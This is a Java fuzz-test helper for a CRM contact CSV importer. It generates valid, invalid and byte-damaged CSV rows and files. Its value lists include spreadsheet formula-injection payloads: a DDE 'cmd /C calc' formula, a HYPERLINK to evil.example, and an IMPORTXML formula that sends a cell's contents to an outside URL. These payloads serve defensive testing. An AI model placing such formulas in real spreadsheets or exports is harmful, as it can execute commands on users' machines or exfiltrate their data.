package dev.crmkit.imports;

import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.strings;

import dev.crmkit.imports.mapping.ImportMapping;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.quicktheories.api.Pair;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/** Generators of hostile CSV input for the fuzz tests: cells, rows and whole files with broken bytes. */
final class FuzzInputs {
    static final ImportMapping CONTACTS = ImportMapping.fromJson("""
            {
              "object": "contacts",
              "externalId": {"source": "fuzz", "column": "ID"},
              "emptyValues": ["Select"],
              "defaults": {"phoneRegion": "US"},
              "propertyDefinitions": "create",
              "fields": {
                "fullName": {"column": "Name"},
                "email": {"column": "Email"},
                "phones": {"column": "Phone", "split": ";"},
                "lifecycleStage": {"column": "Stage", "map": {"values": {"Customer": "CUSTOMER", "Lead": "LEAD"}, "ignoreCase": true}},
                "doNotEmail": {"column": "NoEmail"},
                "createdAt": {"column": "Created", "date": {"patterns": ["yyyy-MM-dd", "MM/dd/yyyy", "iso"]}},
                "properties.score": {"column": "Score", "type": "number", "number": {"decimalSeparator": ","}},
                "properties.segment": {"column": "Segment", "type": "enumeration"},
                "properties.note": {"column": "Note", "type": "string"}
              }
            }
            """);
    static final List<String> COLUMNS = List.of("ID", "Name", "Email", "Phone", "Stage", "NoEmail", "Created", "Score",
            "Segment", "Note");

    /** Values each column accepts. */
    private static final Map<String, List<String>> GOOD = Map.of(
            "ID", List.of("1", "2", "3", "4", "5", "6", "7", "8"),
            "Name", List.of("Ada Lovelace", "Grace Hopper", "Zoë Müller", "李 小龙", "O'Brien", "Cher", "=cmd|' /C calc'!A0"),
            "Email", List.of("ada@example.com", "grace@example.org", "ADA@example.com", "x@y.io"),
            "Phone", List.of("(415) 555-0123", "+44 20 7946 0958", "+1 212 555 0199;(415) 555-0123", ""),
            "Stage", List.of("Customer", "lead", "LEAD", ""),
            "NoEmail", List.of("yes", "no", "1", "0", ""),
            "Created", List.of("2024-02-29", "02/29/2024", "2024-03-15T10:00:00Z", ""),
            "Score", List.of("12,5", "1.234,5", "-3", ""),
            "Segment", List.of("Gold", "Silver", "gold", "Bronze"),
            "Note", List.of("first contact at fair", "=HYPERLINK(\"http://evil.example\")", "+1+1", "@SUM(A1)", "-2+3",
                    "\tnote", "multi\nline \"quoted\" note", ""));
    /** Values that are plausible for the column, some of them invalid. */
    private static final Map<String, List<String>> VALID = Map.of(
            "ID", List.of("1", "2", "3", "4", "5", "6", "7", "8"),
            "Name", List.of("Ada Lovelace", "Grace Hopper", "Zoë Müller", "李 小龙", "O'Brien", "Cher", "Jean-Luc  Picard"),
            "Email", List.of("ada@example.com", "grace@example.org", "ADA@example.com", "x@y.io", "zoe@exämple.de"),
            "Phone", List.of("(415) 555-0123", "+44 20 7946 0958", "+1 212 555 0199;(415) 555-0123", "555"),
            "Stage", List.of("Customer", "lead", "LEAD", "opportunity", "Prospect"),
            "NoEmail", List.of("yes", "no", "1", "0", "maybe"),
            "Created", List.of("2024-02-29", "02/29/2024", "2023-02-29", "2024-03-15T10:00:00Z", "15.03.2024"),
            "Score", List.of("12,5", "1.234,5", "-3", "1e5", "NaN", "9999999999999999999999999999999999999999,5"),
            "Segment", List.of("Gold", "Silver", "gold", "Bronze"),
            "Note", List.of("first contact at fair", "=HYPERLINK(\"http://evil.example\")", "+1+1", "@SUM(A1)", "-2+3",
                    "\tnote", "multi\nline \"quoted\" note"));
    private static final List<String> FORMULAS = List.of("=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=x", "\r=y",
            "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")");
    private static final List<String> PLACEHOLDERS = List.of("", " ", "Select", "select", "\t");

    private FuzzInputs() {
    }

    /** Plausible values of the deal and account columns of {@link RowConversionFuzzTest}. */
    static final Map<String, List<String>> DEAL_VALUES = Map.of(
            "ID", List.of("d1", "d2", "d3"),
            "Name", List.of("Big deal", "Renewal", "Ω project"),
            "Stage", List.of("Won", "Lost", "Prospecting", "Proposal", "Nope"),
            "Amount", List.of("1.250,50", "100", "-5", "12,345", "0,001", "1.000.000.000.000.000.000"),
            "Currency", List.of("EUR", "USD", "JPY", "XXX", "euro"),
            "Close", List.of("15.03.2024", "31.02.2024", "2024-03-15"),
            "Company", List.of("Acme", "Globex", "acme.example", "https://www.acme.example/x"),
            "Reason", List.of("Too expensive", "Timing"));
    static final Map<String, List<String>> ACCOUNT_VALUES = Map.of(
            "ID", List.of("a1", "a2"),
            "Name", List.of("Acme", "Globex GmbH", "Initech"),
            "Website", List.of("acme.example", "https://www.acme.example/about", "not a domain", "localhost"),
            "Employees", List.of("1,200", "12", "-4", "12.5", "99999999999"),
            "Revenue", List.of("1100.04", "25000000", "1,5"),
            "Country", List.of("United States", "Germany", "DEU", "Philipines", "Korea", "uk"),
            "Parent", List.of("a1", "a2", "a3"));

    /** A cell for {@code column}: mostly valid, sometimes of another column's type or hostile. */
    static Gen<String> cell(String column) {
        List<Pair<Integer, Gen<String>>> mix = new ArrayList<>();
        mix.add(Pair.of(12, Generate.pick(GOOD.get(column))));
        mix.add(Pair.of(1, cell(VALID, column)));
        return Generate.frequency(mix);
    }

    /** {@link #cell(String)} over other plausible values. */
    static Gen<String> cell(Map<String, List<String>> valid, String column) {
        List<String> all = valid.values().stream().flatMap(List::stream).toList();
        List<Pair<Integer, Gen<String>>> mix = new ArrayList<>();
        mix.add(Pair.of(10, Generate.pick(valid.get(column))));
        mix.add(Pair.of(3, Generate.pick(all)));
        mix.add(Pair.of(3, Generate.pick(PLACEHOLDERS)));
        mix.add(Pair.of(2, Generate.pick(FORMULAS)));
        mix.add(Pair.of(2, strings().allPossible().ofLengthBetween(0, 12)));
        mix.add(Pair.of(2, strings().ascii().ofLengthBetween(0, 12)));
        mix.add(Pair.of(1, integers().between(101, 20_000).map(n -> "Name " + "x".repeat(n))));
        return Generate.frequency(mix);
    }

    /** A contact row as column name to value. */
    static Gen<Map<String, String>> row() {
        return row(COLUMNS, FuzzInputs::cell);
    }

    /** A row of {@code columns} with cells from {@link #cell(Map, String)}. */
    static Gen<Map<String, String>> row(Map<String, List<String>> valid, List<String> columns) {
        return row(columns, column -> cell(valid, column));
    }

    private static Gen<Map<String, String>> row(List<String> columns, java.util.function.Function<String, Gen<String>> cell) {
        List<Gen<String>> cells = columns.stream().map(cell).toList();
        return random -> {
            Map<String, String> row = new LinkedHashMap<>();
            for (int i = 0; i < columns.size(); i++) {
                row.put(columns.get(i), cells.get(i).generate(random));
            }
            return row;
        };
    }

    /** How a file's bytes are damaged after it was written correctly. */
    enum Damage { NONE, LONE_QUOTE, RANDOM_BYTES, LATIN1, UTF16, TRUNCATED, EXTRA_FIELD, MISSING_FIELD, BARE_CR }

    /**
     * A file to import.
     *
     * @param rows      the rows as written before damage
     * @param damage    what was done to the bytes
     * @param bytes     the file
     * @param batchSize the batch size to import it with
     */
    record FuzzFile(List<Map<String, String>> rows, Damage damage, byte[] bytes, int batchSize) {
        @Override
        public String toString() {
            return damage + " batch " + batchSize + ": " + new String(bytes, StandardCharsets.ISO_8859_1);
        }
    }

    static Gen<FuzzFile> file() {
        Gen<Map<String, String>> row = row();
        Gen<Integer> count = integers().between(0, 6);
        Gen<Damage> damage = Generate.frequency(List.of(Pair.of(8, Generate.constant(Damage.NONE)),
                Pair.of(8, Generate.enumValues(Damage.class))));
        Gen<Integer> position = integers().between(0, Integer.MAX_VALUE - 1);
        Gen<Byte> bytes = Generate.bytes(Byte.MIN_VALUE, Byte.MAX_VALUE, (byte) 0);
        Gen<Integer> batchSize = integers().between(1, 4);
        return random -> {
            List<Map<String, String>> rows = new ArrayList<>();
            int n = count.generate(random);
            for (int i = 0; i < n; i++) {
                rows.add(row.generate(random));
            }
            Damage what = damage.generate(random);
            StringBuilder text = new StringBuilder(CsvCells.line(COLUMNS, ',')).append("\r\n");
            for (Map<String, String> r : rows) {
                List<String> cells = new ArrayList<>(r.values());
                if (what == Damage.EXTRA_FIELD) {
                    cells.add("extra");
                } else if (what == Damage.MISSING_FIELD && !cells.isEmpty()) {
                    cells.remove(cells.size() - 1);
                }
                text.append(CsvCells.line(cells, ',')).append(what == Damage.BARE_CR ? "\r" : "\r\n");
            }
            byte[] encoded = switch (what) {
                case LATIN1 -> text.toString().getBytes(StandardCharsets.ISO_8859_1);
                case UTF16 -> text.toString().getBytes(StandardCharsets.UTF_16);
                default -> text.toString().getBytes(StandardCharsets.UTF_8);
            };
            if (encoded.length > 0) {
                int at = position.generate(random) % encoded.length;
                switch (what) {
                    case LONE_QUOTE -> encoded = insert(encoded, at, (byte) '"');
                    case RANDOM_BYTES -> {
                        for (int i = 0; i < 3; i++) {
                            encoded[position.generate(random) % encoded.length] = bytes.generate(random);
                        }
                    }
                    case TRUNCATED -> encoded = java.util.Arrays.copyOf(encoded, at);
                    default -> {
                    }
                }
            }
            return new FuzzFile(rows, what, encoded, batchSize.generate(random));
        };
    }

    private static byte[] insert(byte[] bytes, int at, byte value) {
        byte[] result = new byte[bytes.length + 1];
        System.arraycopy(bytes, 0, result, 0, at);
        result[at] = value;
        System.arraycopy(bytes, at, result, at + 1, bytes.length - at);
        return result;
    }
}
